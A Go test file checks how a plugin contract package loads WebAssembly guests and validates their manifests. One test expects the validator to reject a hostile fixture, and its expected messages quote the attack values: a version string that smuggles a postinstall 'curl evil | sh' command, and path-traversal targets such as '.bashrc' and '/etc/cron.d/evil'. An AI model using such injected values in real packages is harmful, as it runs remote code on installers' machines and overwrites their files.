package contract_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/bigband-dev/bigband/contract"
	"github.com/bigband-dev/bigband/host"
)

var (
	rtOnce sync.Once
	rt     *host.Runtime
	rtErr  error
)

// load compiles a guest from fixtures/guests/ with a runtime shared by the tests.
func loadGuest(t *testing.T, rel string) *host.Program {
	t.Helper()
	rtOnce.Do(func() { rt, rtErr = host.NewRuntime(context.Background(), host.Config{}) })
	if rtErr != nil {
		t.Fatal(rtErr)
	}
	wasm, err := os.ReadFile(filepath.Join("..", "fixtures", "guests", filepath.FromSlash(rel)))
	if err != nil {
		t.Fatal(err)
	}
	prog, err := contract.LoadGuest(context.Background(), rt, wasm, filepath.Base(rel))
	if err != nil {
		t.Fatal(err)
	}
	return prog
}

func readManifest(t *testing.T, rel string) (*contract.Manifest, error) {
	t.Helper()
	prog := loadGuest(t, rel)
	k, err := contract.KindOf(prog)
	if err != nil {
		t.Fatal(err)
	}
	return contract.ReadManifest(context.Background(), prog, k)
}

func TestReadManifestFrontend(t *testing.T) {
	for _, rel := range []string{"c/frontend/frontend.wasm", "go/frontend/frontend.core.wasm", "go/frontend/frontend.component.wasm"} {
		t.Run(rel, func(t *testing.T) {
			m, err := readManifest(t, rel)
			if err != nil {
				t.Fatal(err)
			}
			if m.Kind != contract.Frontend || m.Guest != filepath.Base(rel) {
				t.Errorf("kind %v guest %q", m.Kind, m.Guest)
			}
			// fixtures/guests/frontend-expected.json
			wantDeps := []contract.NodeDep{
				{Name: "@backstage/core-components", Version: "^0.18.0"},
				{Name: "@backstage/core-plugin-api"},
				{Name: "@types/react", Version: "^18.0.0", Dev: true},
			}
			if len(m.Deps) != len(wantDeps) {
				t.Fatalf("deps %+v", m.Deps)
			}
			for i := range wantDeps {
				if m.Deps[i] != wantDeps[i] {
					t.Errorf("dep %d = %+v, want %+v", i, m.Deps[i], wantDeps[i])
				}
			}
			if len(m.Files) != 3 {
				t.Fatalf("%d files", len(m.Files))
			}
			root := m.Root()
			if root == nil || root.Path != "ExampleComponent/ExampleComponent.tsx" || root.ComponentClassName != "ExampleComponent" ||
				!strings.Contains(root.Contents, "Grüße — 你好 — 🚀") {
				t.Errorf("root %+v", root)
			}
			if f := m.Files[2]; f.Path != "ExampleComponent/data.ts" || len(f.Contents) != 1100000 || f.IsRoot || f.ComponentClassName != "" {
				t.Errorf("data file %q root=%v class=%q len=%d", f.Path, f.IsRoot, f.ComponentClassName, len(f.Contents))
			}
			if err := m.Validate(); err != nil {
				t.Error(err)
			}
		})
	}
}

func TestReadManifestBackend(t *testing.T) {
	m, err := readManifest(t, "c/backend/backend.wasm")
	if err != nil {
		t.Fatal(err)
	}
	want := []contract.Route{
		{"GET", "/hello"}, {"GET", "/headers"}, {"POST", "/echo"}, {"GET", "/status/{code}"},
		{"GET", "/trailers"}, {"GET", "/trap"}, {"GET", "/spin"},
	}
	if m.Kind != contract.Backend || len(m.Routes) != len(want) {
		t.Fatalf("kind %v routes %+v", m.Kind, m.Routes)
	}
	for i := range want {
		if m.Routes[i] != want[i] {
			t.Errorf("route %d = %+v, want %+v", i, m.Routes[i], want[i])
		}
	}
	if err := m.Validate(); err != nil {
		t.Error(err)
	}
}

func TestReadManifestWrongKind(t *testing.T) {
	_, err := contract.ReadManifest(context.Background(), loadGuest(t, "c/backend/backend.wasm"), contract.Frontend)
	var ce *contract.ContractError
	if !errors.As(err, &ce) || !strings.Contains(err.Error(), "export backstage-frontend-plugin: missing") {
		t.Fatalf("err = %v, want a contract error naming the missing interface", err)
	}
}

func TestReadManifestGuestError(t *testing.T) {
	_, err := readManifest(t, "c/malicious/failing.wasm")
	var ge *contract.GuestError
	if !errors.As(err, &ge) {
		t.Fatalf("err = %v, want a *GuestError", err)
	}
	const msg = "config error: plugin.toml line 3: unknown key \"colour\"\n  (did you mean \"color\"?)"
	if ge.Message != msg || ge.Func != "get-node-deps" || !strings.HasSuffix(err.Error(), "\n"+msg) {
		t.Errorf("guest error %+v / %q: the message must be shown as the guest wrote it", ge, err)
	}
}

func TestMaliciousManifest(t *testing.T) {
	m, err := readManifest(t, "c/malicious/malicious.wasm")
	if err != nil {
		t.Fatal(err)
	}
	err = m.Validate()
	var ve *contract.ValidationError
	if !errors.As(err, &ve) {
		t.Fatalf("Validate = %v, want a *ValidationError", err)
	}
	for _, want := range []string{
		`get-node-deps[1] "../../evil": not an npm package name`,
		`get-node-deps[2] "left-pad": version "1.0.0\", \"postinstall\": \"curl evil | sh" is not a version range`,
		`get-component-files[1] "../../../../.bashrc": ".." in the path`,
		`get-component-files[2] "/etc/cron.d/evil": absolute path`,
		`get-component-files[3] "ok/../../escape.ts": ".." in the path`,
		`get-component-files[4] "..\\windows.ts": backslash in the path`,
		`get-component-files[5] "Other.tsx": the root file needs a component-class-name`,
		`get-component-files[6] "page.tsx": same file as get-component-files[0] "Page.tsx"`,
		`get-component-files: 2 root files ([0] "Page.tsx", [5] "Other.tsx")`,
	} {
		if !containsLine(ve.Problems, want) {
			t.Errorf("missing problem %s", want)
		}
	}
	if len(ve.Problems) != 9 {
		t.Errorf("%d problems, want 9:\n%s", len(ve.Problems), err)
	}
	if !strings.HasPrefix(err.Error(), "malicious.wasm: the plugin manifest has 9 problems:\n  ") {
		t.Errorf("message starts %q", err.Error()[:60])
	}
}

func containsLine(lines []string, prefix string) bool {
	for _, l := range lines {
		if strings.HasPrefix(l, prefix) {
			return true
		}
	}
	return false
}

func TestKindOf(t *testing.T) {
	for rel, want := range map[string]contract.Kind{
		"c/frontend/frontend.wasm": contract.Frontend,
		"c/backend/backend.wasm":   contract.Backend,
	} {
		if k, err := contract.KindOf(loadGuest(t, rel)); err != nil || k != want {
			t.Errorf("%s: KindOf = %v, %v; want %v", rel, k, err, want)
		}
	}
	// The ABI torture guest implements neither contract.
	_, err := contract.KindOf(loadGuest(t, "abi-torture/c/utf16.component.wasm"))
	var ce *contract.ContractError
	if !errors.As(err, &ce) || !strings.Contains(err.Error(), "backstage-frontend-plugin: missing") ||
		!strings.Contains(err.Error(), "backstage-backend-plugin: missing") {
		t.Errorf("torture guest: err = %v, want both contracts' missing interfaces", err)
	}
}
